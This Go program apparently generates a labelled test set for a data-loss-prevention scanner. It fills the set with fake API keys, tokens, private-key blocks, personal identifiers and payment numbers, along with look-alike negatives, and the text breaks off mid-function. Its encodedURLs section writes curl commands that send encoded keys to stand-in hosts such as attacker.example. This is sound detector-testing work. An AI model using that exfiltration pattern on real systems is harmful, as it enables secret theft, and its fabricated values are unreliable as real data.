//go:build ignore

// Command gen writes labelled.jsonl, the labelled set TestLabelled reads:
//
//	go run ./dlp/testdata/gen.go ./dlp/testdata/negatives.go > dlp/testdata/labelled.jsonl
//
// Every secret and identifier it writes is fake: random values in the
// vendors' formats (with valid checksums where a format has one), placed in
// the places they turn up (env files, configs, code, logs, mail, notes).
// The negatives are look-alikes written by hand: documented examples,
// placeholders, hashes, UUIDs, versions, numbers that fail a checksum.
// The seed is fixed, so the output is the same on every run.
package main

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/big"
	"math/rand/v2"
	"os"
	"strings"
)

type record struct {
	Text string   `json:"text"`
	Want []string `json:"want"`
	Near string   `json:"near,omitempty"` // for negatives: the scanner it resembles
}

var r = rand.New(rand.NewPCG(20250312, 7))

const (
	upper  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	lower  = "abcdefghijklmnopqrstuvwxyz"
	digits = "0123456789"
	alnum  = upper + lower + digits
	b64url = alnum + "-_"
	b64std = alnum + "+/"
	hexlc  = "0123456789abcdef"
)

func rs(n int, set string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = set[r.IntN(len(set))]
	}
	return string(b)
}

// mixed returns n bytes of set containing at least one upper, lower and digit.
func mixed(n int, set string) string {
	for {
		v := rs(n, set)
		if strings.ContainsAny(v, upper) && strings.ContainsAny(v, lower) && strings.ContainsAny(v, digits) {
			return v
		}
	}
}

func pick[T any](xs ...T) T { return xs[r.IntN(len(xs))] }

var out []record

func pos(text string, ids ...string) { out = append(out, record{Text: text, Want: ids}) }
func neg(near, text string)          { out = append(out, record{Text: text, Want: []string{}, Near: near}) }

// each runs f n times: one labelled positive per call.
func each(n int, f func()) {
	for range n {
		f()
	}
}

func main() {
	credentials()
	credentials2()
	personal()
	payment()
	markings()
	hard()
	negatives()
	encodedURLs()
	cryptoKeys()
	seedPhrases()
	encodedBodies()
	cryptoAddresses()
	prosePersonal()
	enc := json.NewEncoder(os.Stdout)
	enc.SetEscapeHTML(false)
	for _, rec := range out {
		if err := enc.Encode(rec); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
}

func awsID() string {
	for {
		v := rs(16, upper+"234567")
		if strings.ContainsAny(v, "234567") {
			return pick("AKIA", "AKIA", "ASIA") + v
		}
	}
}

func credentials() {
	each(6, func() {
		body := ""
		for range 4 + r.IntN(20) {
			body += rs(64, b64std) + "\n"
		}
		body += rs(24, b64std) + "==\n"
		kind := pick("RSA PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY")
		pos(pick("$ cat deploy/id_rsa\n", "key.pem:\n", "")+"-----BEGIN "+kind+"-----\n"+body+"-----END "+kind+"-----", "private_key")
	})
	each(2, func() {
		pos("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n"+rs(64, b64std)+"\n"+rs(64, b64std)+"\n"+rs(40, b64std)+"\n="+rs(4, b64std)+"\n-----END PGP PRIVATE KEY BLOCK-----", "private_key")
	})
	each(3, func() {
		pos(fmt.Sprintf(`{"type": "service_account", "project_id": "acme-%s", "private_key_id": "%s", "private_key": "-----BEGIN PRIVATE KEY-----\n%s\n%s\n-----END PRIVATE KEY-----\n", "client_email": "ci@acme-%s.iam.gserviceaccount.com"}`,
			rs(6, lower), rs(40, hexlc), rs(64, b64std), rs(64, b64std), rs(6, lower)), "private_key", "email")
	})

	each(10, func() {
		id := awsID()
		pos(pick(
			"[default]\naws_access_key_id = "+id+"\nregion = eu-west-1",
			"export AWS_ACCESS_KEY_ID="+id,
			`{"AccessKeyId": "`+id+`", "Expiration": "2025-03-12T11:00:00Z"}`,
			"2025-03-12 10:01:44 INFO boto3 using credentials "+id+" from environment",
			"      - name: AWS_ACCESS_KEY_ID\n        value: "+id,
		), "aws_access_key_id")
	})
	each(10, func() {
		sec := mixed(40, b64std)
		pos(pick(
			"[prod]\naws_secret_access_key = "+sec,
			"AWS_SECRET_ACCESS_KEY="+sec,
			`{"SecretAccessKey": "`+sec+`"}`,
			"secret_access_key: "+sec,
			`aws_secret_key = "`+sec+`"`,
		), "aws_secret_access_key")
	})
	each(2, func() {
		pos("[default]\naws_access_key_id = "+awsID()+"\naws_secret_access_key = "+mixed(40, b64std), "aws_access_key_id", "aws_secret_access_key")
	})

	each(10, func() {
		k := "AIza" + mixed(35, b64url)
		pos(pick(
			`const firebaseConfig = { apiKey: "`+k+`", authDomain: "acme-app.firebaseapp.com" };`,
			"https://maps.googleapis.com/maps/api/geocode/json?address=Berlin&key="+k,
			"GOOGLE_API_KEY="+k,
			`<meta name="google-api-key" content="`+k+`">`,
		), "gcp_api_key")
	})
	each(10, func() {
		k := "GOCSPX-" + mixed(28, b64url)
		pos(pick(
			`{"web":{"client_id":"`+rs(12, digits)+`-`+rs(32, lower+digits)+`.apps.googleusercontent.com","client_secret":"`+k+`"}}`,
			"GOOGLE_CLIENT_SECRET="+k,
			"oauth:\n  google:\n    secret: "+k,
		), "gcp_oauth_client_secret")
	})

	each(10, func() {
		k := mixed(86, b64std) + "=="
		pos(pick(
			"DefaultEndpointsProtocol=https;AccountName=acme"+rs(5, lower)+";AccountKey="+k+";EndpointSuffix=core.windows.net",
			"AZURE_STORAGE_KEY="+k,
			`"storageAccountKey": "`+k+`"`,
		), "azure_storage_key")
	})
	each(10, func() {
		k := rs(3, alnum) + rs(1, digits) + "Q~" + mixed(30+r.IntN(4), alnum+"_~") + rs(1, alnum)
		pos(pick(
			"AZURE_CLIENT_SECRET="+k,
			`{"appId": "`+uuid()+`", "password": "`+k+`", "tenant": "`+uuid()+`"}`,
			"az login --service-principal -u "+uuid()+" -p "+k+" --tenant acme.onmicrosoft.com",
		), "azure_client_secret")
	})

	each(12, func() {
		t := pick("ghp_", "gho_", "ghs_", "ghu_", "ghr_") + mixed(36, alnum)
		if r.IntN(4) == 0 {
			t = "github_pat_" + mixed(22, alnum) + "_" + mixed(59, alnum)
		}
		pos(pick(
			"GITHUB_TOKEN="+t,
			"git clone https://"+t+"@github.com/acme/infra.git",
			"//npm.pkg.github.com/:_authToken="+t,
			"  env:\n    GH_TOKEN: "+t,
			"curl -H 'Authorization: token "+t+"' https://api.github.com/user",
		), "github_token")
	})
	each(10, func() {
		t := pick("glpat-", "glpat-", "gldt-", "glrt-") + mixed(20, b64url)
		pos(pick(
			"GITLAB_TOKEN="+t,
			"git remote set-url origin https://oauth2:"+t+"@gitlab.com/acme/api.git",
			`curl --header "PRIVATE-TOKEN: `+t+`" "https://gitlab.acme.io/api/v4/projects"`,
		), "gitlab_token")
	})
	each(10, func() {
		t := pick(
			"xoxb-"+rs(12, digits)+"-"+rs(13, digits)+"-"+mixed(24, alnum),
			"xoxp-"+rs(12, digits)+"-"+rs(12, digits)+"-"+rs(13, digits)+"-"+rs(32, hexlc),
			"xapp-1-A"+rs(10, upper+digits)+"-"+rs(13, digits)+"-"+rs(64, hexlc),
		)
		pos(pick("SLACK_BOT_TOKEN="+t, `slack_token: "`+t+`"`, "client = WebClient(token='"+t+"')"), "slack_token")
	})
	each(10, func() {
		u := "https://hooks.slack.com/services/T" + rs(8+r.IntN(3), upper+digits) + "/B" + rs(8+r.IntN(3), upper+digits) + "/" + mixed(24, alnum)
		pos(pick(
			"curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"deploy done\"}' "+u,
			"SLACK_WEBHOOK_URL="+u,
			"alertmanager:\n  slack_api_url: "+u,
		), "slack_webhook")
	})
}

func uuid() string {
	return rs(8, hexlc) + "-" + rs(4, hexlc) + "-4" + rs(3, hexlc) + "-" + pick("8", "9", "a", "b") + rs(3, hexlc) + "-" + rs(12, hexlc)
}

func b64u(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func jwt() string {
	alg := pick("HS256", "RS256", "ES256")
	h := b64u(fmt.Sprintf(`{"alg":"%s","typ":"JWT"}`, alg))
	if r.IntN(3) == 0 {
		h = b64u(fmt.Sprintf(`{"typ":"JWT","alg":"%s","kid":"%s"}`, alg, rs(8, hexlc)))
	}
	p := b64u(fmt.Sprintf(`{"sub":"%s","iat":%d,"exp":%d,"scope":"read write"}`, uuid(), 1700000000+r.IntN(9e7), 1800000000+r.IntN(9e7)))
	sig := rs(43, b64url)
	if alg == "RS256" {
		sig = rs(342, b64url)
	}
	return h + "." + p + "." + sig
}

// strongPassword starts with a letter or digit; the rest may hold symbols.
func strongPassword() string {
	return rs(1, alnum) + mixed(9+r.IntN(10), alnum+"!#%^*-_+=")
}

// urlPassword is a password as it appears unescaped in a URL.
func urlPassword() string {
	return rs(1, alnum) + mixed(9+r.IntN(10), alnum+"-_.~!")
}

func credentials2() {
	each(10, func() {
		k := pick("sk_live_", "sk_live_", "rk_live_") + mixed(24+r.IntN(76), alnum)
		if r.IntN(5) == 0 {
			k = "whsec_" + mixed(32, alnum)
		}
		pos(pick("STRIPE_SECRET_KEY="+k, "stripe.api_key = \""+k+"\"", "Stripe::Stripe.api_key='"+k+"'"), "stripe_key")
	})
	each(10, func() {
		k := pick("sk-proj-", "sk-svcacct-", "sk-admin-") + rs(74, b64url) + "T3BlbkFJ" + rs(74, b64url)
		if r.IntN(4) == 0 {
			k = "sk-" + mixed(20, alnum) + "T3BlbkFJ" + mixed(20, alnum)
		}
		pos(pick("OPENAI_API_KEY="+k, "client = OpenAI(api_key=\""+k+"\")", `{"openai": {"key": "`+k+`"}}`), "openai_key")
	})
	each(10, func() {
		k := "sk-ant-" + pick("api03-", "api03-", "admin01-") + mixed(93, b64url) + "AA"
		pos(pick("ANTHROPIC_API_KEY="+k, "curl https://api.anthropic.com/v1/messages -H \"x-api-key: "+k+"\"", "anthropic = Anthropic(api_key='"+k+"')"), "anthropic_key")
	})
	each(10, func() {
		k := "npm_" + mixed(36, alnum)
		pos(pick("//registry.npmjs.org/:_authToken="+k, "NPM_TOKEN="+k, "npm config set //registry.npmjs.org/:_authToken "+k), "npm_token")
	})
	each(10, func() {
		k := "pypi-AgEIcHlwaS5vcmc" + mixed(70+r.IntN(80), b64url)
		pos(pick("[pypi]\n  username = __token__\n  password = "+k, "TWINE_PASSWORD="+k, "uv publish --token "+k), "pypi_token")
	})
	each(10, func() {
		k := "SG." + mixed(22, b64url) + "." + mixed(43, b64url)
		pos(pick("SENDGRID_API_KEY="+k, "sg = sendgrid.SendGridAPIClient('"+k+"')", "mail:\n  sendgrid_key: "+k), "sendgrid_key")
	})
	each(12, func() {
		t := jwt()
		pos(pick(
			"Authorization: Bearer "+t,
			`{"access_token":"`+t+`","token_type":"Bearer","expires_in":3600}`,
			"Set-Cookie: session="+t+"; Path=/; HttpOnly; Secure",
			"2025-03-12T10:22:01Z DEBUG auth: verified token "+t,
			"https://app.acme.io/callback#id_token="+t,
		), "jwt")
	})
	each(10, func() {
		cred := base64.StdEncoding.EncodeToString([]byte(pick("deploy", "ci", "admin", "svc-backup", "jenkins") + ":" + strongPassword()))
		pos(pick(
			"Authorization: Basic "+cred,
			"curl -H \"Authorization: Basic "+cred+"\" https://registry.acme.io/v2/_catalog",
			`{"auths":{"registry.acme.io":{"auth":"`+cred+`"}}}`+"\nAuthorization: basic "+cred,
		), "basic_auth")
	})
	each(10, func() {
		t := mixed(32+r.IntN(32), alnum+"._-")
		pos(pick(
			"curl -H 'Authorization: Bearer "+t+"' https://api.vendor.io/v1/accounts",
			"> GET /v2/me HTTP/1.1\n> Host: api.vendor.io\n> Authorization: Bearer "+t,
			`headers = {"Authorization": "Bearer `+t+`"}`,
		), "bearer_token")
	})
	each(12, func() {
		pw := urlPassword()
		host := pick("db.internal", "10.0.3.17", "pg-prod.acme.io", "cluster0.x7k2p.mongodb.net", "cache.acme.local")
		pos(pick(
			"DATABASE_URL=postgres://app:"+pw+"@"+host+":5432/app?sslmode=require",
			"mongodb+srv://svc_reader:"+pw+"@"+host+"/orders?retryWrites=true",
			"REDIS_URL=redis://:"+pw+"@"+host+":6379/0",
			"amqp://guest_ops:"+pw+"@"+host+":5672/vhost",
			"Server=tcp:acme-sql.database.windows.net,1433;Initial Catalog=crm;User ID=svc;Password="+strongPassword()+";Encrypt=True;",
			"spring.datasource.url=jdbc:mysql://"+host+":3306/shop?user=shop&password=x\nmysql://shop:"+pw+"@"+host+"/shop",
		), "connection_string_password")
	})
	each(24, func() {
		v := pick(mixed(32, hexlc+"ABCDEF"), strongPassword(), mixed(40, alnum), rs(64, hexlc)+"9f")
		pos(pick(
			"DB_PASSWORD="+v,
			"JWT_SECRET="+v,
			"  password: "+v,
			`"client_secret": "`+v+`"`,
			"SECRET_KEY = '"+v+"'",
			"api_key: "+v,
			"https://api.weather.io/v1/forecast?city=Oslo&apikey="+v,
			"[database]\nhost = db.internal\nuser = app\npassword = "+v,
			"ApiToken="+v,
			`config.set("encryption_key", "x"); encryption_key = "`+v+`"`,
			"Your new password is: "+v,
		), "generic_secret")
	})
}

// Personal data.

var firstNames = []string{"maria", "john", "li", "fatima", "oliver", "sofia", "ahmed", "emma", "lucas", "yuki", "priya", "noah"}
var lastNames = []string{"garcia", "smith", "wang", "khan", "brown", "rossi", "nguyen", "muller", "silva", "tanaka", "patel", "dubois"}
var mailDomains = []string{"gmail.com", "outlook.com", "acme-corp.com", "fastmail.fm", "posteo.de", "uni-heidelberg.de", "company.co.uk", "proton.me", "yahoo.co.jp", "mail.ru"}

func email() string {
	f, l := pick(firstNames...), pick(lastNames...)
	local := pick(f+"."+l, f+l[:1], f+"_"+l+fmt.Sprint(r.IntN(99)), f[:1]+l, f+"+shop")
	return local + "@" + pick(mailDomains...)
}

func nanp() (string, string, string) {
	for {
		a := 201 + r.IntN(789)
		e := 201 + r.IntN(789)
		if a%100 == 11 || e%100 == 11 || e == 555 {
			continue
		}
		return fmt.Sprint(a), fmt.Sprint(e), fmt.Sprintf("%04d", r.IntN(10000))
	}
}

func phone() string {
	a, e, l := nanp()
	return pick(
		"("+a+") "+e+"-"+l,
		a+"-"+e+"-"+l,
		a+"."+e+"."+l,
		"+1 "+a+" "+e+" "+l,
		"+1-"+a+"-"+e+"-"+l,
		"+44 20 7"+rs(3, digits)+" "+rs(4, digits),
		"+44 7"+rs(3, digits)+" "+rs(6, digits),
		"+49 30 "+rs(8, digits),
		"+49 (0)89 "+rs(4, digits)+" "+rs(4, digits),
		"+33 1 "+rs(2, digits)+" "+rs(2, digits)+" "+rs(2, digits)+" "+rs(2, digits),
		"+91 9"+rs(4, digits)+" "+rs(5, digits),
		"+61 2 "+rs(4, digits)+" "+rs(4, digits),
		"+81 3-"+rs(4, digits)+"-"+rs(4, digits),
		"+55 11 9"+rs(4, digits)+"-"+rs(4, digits),
	)
}

func ssn() string {
	for {
		a := 1 + r.IntN(899)
		if a == 666 {
			continue
		}
		return fmt.Sprintf("%03d-%02d-%04d", a, 1+r.IntN(99), 1+r.IntN(9999))
	}
}

const ninoFirst = "ABCEGHJKLMNOPRSTWXYZ"
const ninoSecond = "ABCEGHJKLMNPRSTWXYZ"

func nino() string {
	for {
		p := rs(1, ninoFirst) + rs(1, ninoSecond)
		switch p {
		case "BG", "GB", "KN", "NK", "NT", "TN", "ZZ":
			continue
		}
		d := rs(6, digits)
		s := rs(1, "ABCD")
		if r.IntN(2) == 0 {
			return p + " " + d[:2] + " " + d[2:4] + " " + d[4:] + " " + s
		}
		return p + d + s
	}
}

const dniLetters = "TRWAGMYFPDXBNJZSQVHLCKE"

func dni() string {
	n := r.IntN(1e8)
	if r.IntN(4) == 0 {
		x := r.IntN(3)
		m := r.IntN(1e7)
		return fmt.Sprintf("%c%07d%c", "XYZ"[x], m, dniLetters[(x*1e7+m)%23])
	}
	return fmt.Sprintf("%08d%s%c", n, pick("", "", "-"), dniLetters[n%23])
}

func luhnDigit(d string) byte {
	sum := 0
	for k := 0; k < len(d); k++ {
		v := int(d[len(d)-1-k] - '0')
		if k%2 == 0 {
			v *= 2
			if v > 9 {
				v -= 9
			}
		}
		sum += v
	}
	return byte('0' + (10-sum%10)%10)
}

func sin() string {
	d := fmt.Sprint(1+r.IntN(7)) + rs(7, digits)
	d += string(luhnDigit(d))
	return pick(d[:3]+" "+d[3:6]+" "+d[6:], d[:3]+"-"+d[3:6]+"-"+d[6:], d)
}

var months = []string{"January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"}

func date() string {
	y, m, d := 1940+r.IntN(66), 1+r.IntN(12), 1+r.IntN(28)
	return pick(
		fmt.Sprintf("%d-%02d-%02d", y, m, d),
		fmt.Sprintf("%02d/%02d/%d", d, m, y),
		fmt.Sprintf("%02d/%02d/%d", m, d, y),
		fmt.Sprintf("%02d.%02d.%d", d, m, y),
		fmt.Sprintf("%d %s %d", d, months[m-1], y),
		fmt.Sprintf("%s %d, %d", months[m-1], d, y),
		fmt.Sprintf("%02d-%s-%d", d, months[m-1][:3], y),
	)
}

func personal() {
	each(14, func() {
		e := email()
		pos(pick(
			"From: "+capital(pick(firstNames...))+" <"+e+">\nTo: team@acme-corp.com\nSubject: invoice",
			"Author: "+e+"\nDate:   Tue Mar 11 09:12:44 2025 +0100",
			`{"user": {"id": 4411, "email": "`+e+`", "plan": "pro"}}`,
			"2025-03-12 10:14:02 WARN login failed for "+e+" from 203.0.113.7",
			"Please reach out to "+e+" for access.",
			"name,email,signup\n"+pick(firstNames...)+","+e+",2024-11-02",
		), "email")
	})
	each(14, func() {
		p := phone()
		pos(pick(
			"Call me at "+p+" after 5pm.",
			"Tel: "+p,
			`{"name": "L. Rossi", "phone": "`+p+`"}`,
			"Customer called from "+p+" about ticket #4412.",
			"Mobile: "+p+"\nOffice hours 9-17",
		), "phone_number")
	})
	each(12, func() {
		s := ssn()
		pos(pick("SSN: "+s, "Employee SSN "+s+" on file", `{"ssn": "`+s+`", "state": "OH"}`, "social security number "+s+" verified", "W-2 copy, SSN "+s), "us_ssn")
	})
	each(3, func() {
		s := strings.ReplaceAll(ssn(), "-", "")
		pos(pick("ssn="+s, "SSN: "+s, `"social_security_number": "`+s+`"`), "us_ssn")
	})
	each(12, func() {
		n := nino()
		pos(pick("National Insurance number: "+n, "NINO "+n, "ni_number: "+n, "P60 for employee, NI No. "+n), "uk_nino")
	})
	each(12, func() {
		d := dni()
		pos(pick("DNI: "+d, "NIF/NIE "+d, "titular con DNI "+d+" y domicilio en Madrid", `{"documento": "`+d+`"}`), "es_dni")
	})
	each(12, func() {
		s := sin()
		pos(pick("SIN: "+s, "Social Insurance Number: "+s, "sin_number="+s, "NAS: "+s), "ca_sin")
	})
	each(14, func() {
		d := date()
		pos(pick("DOB: "+d, "Date of Birth: "+d, `{"name": "A. Khan", "dob": "`+d+`"}`, "birthdate="+d, "Patient born on "+d+" presents with cough.", "Geburtsdatum: "+d), "date_of_birth")
	})
	each(12, func() {
		m := pick(rs(8, digits), "MRN"+rs(7, digits), rs(2, digits)+"-"+rs(6, digits), "P-"+rs(8, digits))
		pos(pick("MRN: "+m, "Medical Record Number: "+m, `{"patient_id": "`+m+`", "ward": "4B"}`, "patient_no="+m), "medical_record_number")
	})
	each(12, func() {
		pos(pick(
			"Chief Complaint: shortness of breath for two days.",
			"DISCHARGE SUMMARY\nAdmitted for observation, discharged in stable condition.",
			"History of Present Illness: 58-year-old with intermittent chest pain.",
			"Patient Name: R. Alvarez  Ward 3",
			"Attending Physician: Dr. Okafor",
			"This fax contains protected health information. If received in error, destroy it.",
			"Date of Service: 03/12/2025  Procedure: MRI knee",
			"Admitting Diagnosis: community-acquired pneumonia",
			"Past Medical History: hypertension, type 2 diabetes",
			"Diagnosis Code: J18.9",
		), "phi_marker")
	})
}

func capital(s string) string { return strings.ToUpper(s[:1]) + s[1:] }

// Payment data.

func card() string {
	type net struct {
		prefix string
		n      int
	}
	nw := pick(net{"4", 16}, net{"4", 16}, net{"51", 16}, net{"55", 16}, net{"2221", 16}, net{"2720", 16},
		net{"34", 15}, net{"37", 15}, net{"6011", 16}, net{"65", 16}, net{"3530", 16}, net{"36", 14}, net{"62", 16})
	d := nw.prefix + rs(nw.n-len(nw.prefix)-1, digits)
	d += string(luhnDigit(d))
	switch {
	case nw.n == 16 && r.IntN(3) == 0:
		return d[:4] + " " + d[4:8] + " " + d[8:12] + " " + d[12:]
	case nw.n == 16 && r.IntN(3) == 0:
		return d[:4] + "-" + d[4:8] + "-" + d[8:12] + "-" + d[12:]
	case nw.n == 15 && r.IntN(2) == 0:
		return d[:4] + " " + d[4:10] + " " + d[10:]
	}
	return d
}

func iban() string {
	type c struct {
		cc   string
		bban func() string
	}
	cs := []c{
		{"DE", func() string { return rs(18, digits) }},
		{"GB", func() string { return rs(4, upper) + rs(14, digits) }},
		{"FR", func() string { return rs(10, digits) + rs(11, upper+digits) + rs(2, digits) }},
		{"NL", func() string { return rs(4, upper) + rs(10, digits) }},
		{"ES", func() string { return rs(20, digits) }},
		{"IT", func() string { return rs(1, upper) + rs(10, digits) + rs(12, digits) }},
		{"CH", func() string { return rs(17, digits) }},
		{"BE", func() string { return rs(12, digits) }},
		{"PL", func() string { return rs(24, digits) }},
	}
	x := pick(cs...)
	bban := x.bban()
	n := new(big.Int)
	var num strings.Builder
	for _, ch := range bban + x.cc + "00" {
		if ch >= 'A' && ch <= 'Z' {
			num.WriteString(fmt.Sprint(int(ch-'A') + 10))
		} else {
			num.WriteRune(ch)
		}
	}
	n.SetString(num.String(), 10)
	chk := 98 - new(big.Int).Mod(n, big.NewInt(97)).Int64()
	v := fmt.Sprintf("%s%02d%s", x.cc, chk, bban)
	if r.IntN(2) == 0 {
		var g []string
		for i := 0; i < len(v); i += 4 {
			g = append(g, v[i:min(i+4, len(v))])
		}
		return strings.Join(g, " ")
	}
	return v
}

func payment() {
	each(16, func() {
		c := card()
		pos(pick(
			"card_number: "+c,
			"Card: "+c+"  Exp: 09/27",
			`{"pan": "`+c+`", "holder": "M GARCIA"}`,
			"2025-03-12 10:02:11 ERROR charge failed card="+c+" amount=42.00",
			"Please charge my card "+c+" for the renewal.",
		), "credit_card")
	})
	each(14, func() {
		i := iban()
		pos(pick("IBAN: "+i, "Bitte überweisen Sie auf "+i+" bis Freitag.", `{"iban": "`+i+`", "bic": "DEUTDEFF"}`, "Beneficiary account "+i), "iban")
	})
}

func markings() {
	for _, t := range []string{
		"TOP SECRET//NOFORN\nSubject: field report", "TLP:RED\nIndicators below are for the response team only.",
		"Classification: Restricted\nOwner: security", "Data Classification: Secret", "(U) this paragraph is unclassified; the annex is TOP SECRET",
		"TLP: RED - do not share", "sensitivity: restricted\nretention: 7y", "SECRET//REL TO USA, GBR",
		"Header: TOP SECRET", "classification = top secret",
	} {
		pos(t, "secret_marker")
	}
	for _, t := range []string{
		"ACME CONFIDENTIAL - Q3 board deck", "CONFIDENTIAL\nDraft acquisition terms", "This e-mail is privileged and confidential.",
		"Company Confidential: roadmap 2026", "Strictly Confidential - not for circulation", "DO NOT DISTRIBUTE",
		"TLP:AMBER\nShare only within your organisation.", "Classification: Confidential", "INTERNAL USE ONLY",
		"Proprietary and Confidential. Copyright 2025 Acme Inc.", "[CONFIDENTIAL] salary bands 2025", "Shared under NDA with Initech.",
		"TLP:GREEN", "Not for distribution outside the steering group.", "sensitivity: internal",
	} {
		pos(t, "confidential_marker")
	}
	for _, t := range []string{
		"TLP:CLEAR\nAdvisory: update OpenSSL.", "TLP:WHITE", "Approved for public release; distribution is unlimited.",
		"Classification: Public", "data_classification: public", "TLP: CLEAR - may be shared freely",
		"sensitivity: public\nowner: docs team", "Release notes. TLP:CLEAR", "Classification: Unclassified",
		"This report is approved for public release.",
	} {
		pos(t, "public_marker")
	}
	// Mixed records: several findings at once.
	pos("# .env\nDATABASE_URL=postgres://app:"+urlPassword()+"@db.internal:5432/app\nSTRIPE_SECRET_KEY=sk_live_"+mixed(32, alnum)+"\nADMIN_EMAIL="+email(),
		"connection_string_password", "stripe_key", "email")
	pos("Patient Name: J. Smith\nDOB: 1961-04-09\nMRN: 00"+rs(7, digits)+"\nChief Complaint: dizziness",
		"phi_marker", "date_of_birth", "medical_record_number")
	pos("CONFIDENTIAL\nEmployee: "+email()+"\nSSN: "+ssn()+"\nIBAN: "+iban(),
		"confidential_marker", "email", "us_ssn", "iban")
	pos("TLP:CLEAR\nContact security@"+pick("acme-corp.com", "initech.io")+" for questions.", "public_marker", "email")
}

// hard holds records written by hand after the detector was built and
// added without changing it: some positives it is known to miss (no label,
// national formats, disclaimers in prose), and look-alikes.
func hard() {
	pos(`password: "p@ss:w0rd#2024!"`, "generic_secret")
	pos(`export API_TOKEN="tok_3Jf9sLq2xV8mPz7R"`, "generic_secret")
	pos(`const apiKey = "9b1c6e2f4a7d8e3c5b0a1f2e"`, "generic_secret")
	pos(`requests.get(url, auth=("admin", "Sup3r$ecret!"))`, "generic_secret")
	pos("apiVersion: v1\nkind: Secret\ndata:\n  password: cGFzc3dvcmQxMjM0NTY=", "generic_secret")
	pos("docker run -e POSTGRES_PASSWORD=Rk29vLq8xPz postgres:16", "generic_secret")
	pos("mysql -u root -pK9x2mQ7vL4 orders", "generic_secret")
	pos(`{"token": "8f14e45fceea167a5a36dedd4bea2543"}`, "generic_secret")
	pos("Phone: 020 7946 0321", "phone_number")
	pos("Reach me on +1 415 867 2301.", "phone_number")
	pos("call 415 867 2301 after lunch", "phone_number")
	pos("Reply-To: j.doe@mail.corp.acme-corp.com", "email")
	pos("CONTACT: JOHN.SMITH@ACME-CORP.COM", "email")
	pos("D.O.B.: 04/11/1972", "date_of_birth")
	pos("date of birth 04/11/1972", "date_of_birth")
	pos(`{"pan":"4539578763621486","exp":"0927"}`, "credit_card")
	pos("Card ending 1486, full number 5238 7290 1146 5306", "credit_card")
	pos("iban: de91 2699 1023 7409 5461 11", "iban")
	pos("https://acme-uploads.s3.amazonaws.com/report.pdf?AWSAccessKeyId=AKIAUJZDEGXDNCF32EPF&Expires=1741777200&Signature=abc", "aws_access_key_id")
	pos("[remote \"origin\"]\n\turl = https://oauth2:glpat-Xz9w3QlY7Zkuvqdt7s8S@gitlab.com/acme/api.git", "gitlab_token")
	pos("-----BEGIN RSA PRIVATE KEY-----\r\n"+rs(64, b64std)+"\r\n"+rs(64, b64std)+"\r\n-----END RSA PRIVATE KEY-----\r\n", "private_key")
	pos("tls:\n  key: |\n    -----BEGIN EC PRIVATE KEY-----\n    "+rs(64, b64std)+"\n    "+rs(32, b64std)+"\n    -----END EC PRIVATE KEY-----", "private_key")
	pos("This email and any attachments are confidential and intended solely for the addressee.", "confidential_marker")
	pos("Patient: John Doe, 45M, admitted with chest pain; troponin elevated.", "phi_marker")
	pos("SSN#: 536-22-8174", "us_ssn")

	neg("generic_secret", "password_hash: $2b$12$KIXQJ9u0rRr6l3yV5oW1SeqF8oS0c9sW2cZ1k4mYv3b7nT6aP5dE2")
	neg("generic_secret", "password: $2y$10$wH8QmZ3k1vC9pL2xR7tN4uJ6eF5bA0sD3gH1jK8lM2nB4vC6xZ9q")
	neg("generic_secret", "token_count: 15823")
	neg("generic_secret", `"password_strength": "strong"`)
	neg("generic_secret", "api_key_header: X-API-Key")
	neg("generic_secret", "AUTH_PASSWORD_VALIDATORS = [")
	neg("generic_secret", "token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)")
	neg("email", `EMAIL_RE = re.compile(r"[a-z0-9.]+@[a-z]+\.com")`)
	neg("phone_number", "port range 8000-8080, build 2024.03.1234")
	neg("phone_number", "toll-free 800-555-0199 (fictional)")
	neg("credit_card", "IMEI 490154203237518")
	neg("credit_card", "test card 5105 1051 0510 5100")
	neg("confidential_marker", "confidentiality: see the privacy policy")
}

// encodedURLs writes keys leaving in URLs under an encoding (base64 std
// and URL-safe, hex, %XX once and twice, zero-width and separator
// splits), and URLs full of harmless ids.
func encodedURLs() {
	pct := func(s string) string {
		var b strings.Builder
		for k := 0; k < len(s); k++ {
			fmt.Fprintf(&b, "%%%02X", s[k])
		}
		return b.String()
	}
	split := func(s, sep string) string {
		var parts []string
		for len(s) > 4 {
			parts = append(parts, s[:4])
			s = s[4:]
		}
		return strings.Join(append(parts, s), sep)
	}
	host := func() string {
		return pick("collect", "img", "t", "px") + "." + pick("evil.example", "attacker.example", "x.test")
	}
	each(12, func() {
		key := pick(awsID(), "ghp_"+rs(36, alnum), "sk-proj-"+rs(48, b64url))
		var v string
		switch r.IntN(8) {
		case 0:
			v = base64.StdEncoding.EncodeToString([]byte("k=" + key))
		case 1:
			v = base64.RawURLEncoding.EncodeToString([]byte(key))
		case 2:
			v = hex.EncodeToString([]byte(key))
		case 3:
			v = pct(key)
		case 4:
			v = strings.ReplaceAll(pct(key), "%", "%25")
		case 5:
			v = split(key, pick("\u200b", "\u200c", "\u200d", "\ufeff"))
		case 6:
			v = split(key, "+")
		default:
			v = split(key, ".")
		}
		pos(fmt.Sprintf("curl 'https://%s/%s?%s=%s'", host(), pick("p", "log", "i.gif"), pick("d", "q", "t"), v), "encoded_url_secret")
	})
	sha := func() string { return rs(40, hexlc) }
	each(2, func() {
		neg("encoded_url_secret", "https://api.github.com/repos/acme/"+pick("api", "web")+"/commits/"+sha())
		neg("encoded_url_secret", "https://api.example.com/v1/orders/"+uuid())
		neg("encoded_url_secret", "https://"+rs(14, lower+digits)+".cloudfront.net/assets/app."+rs(12, hexlc)+".js")
		neg("encoded_url_secret", "https://search.example.org/?q="+base64.StdEncoding.EncodeToString([]byte(pick("hello", "weather in paris", "go generics"))))
		neg("encoded_url_secret", "https://docs.google.com/document/d/"+rs(44, b64url)+"/edit")
	})
}

// b58 is base58check of payload, a '1' for each leading zero byte.
func b58(payload []byte) string {
	h := sha256.Sum256(payload)
	h = sha256.Sum256(h[:])
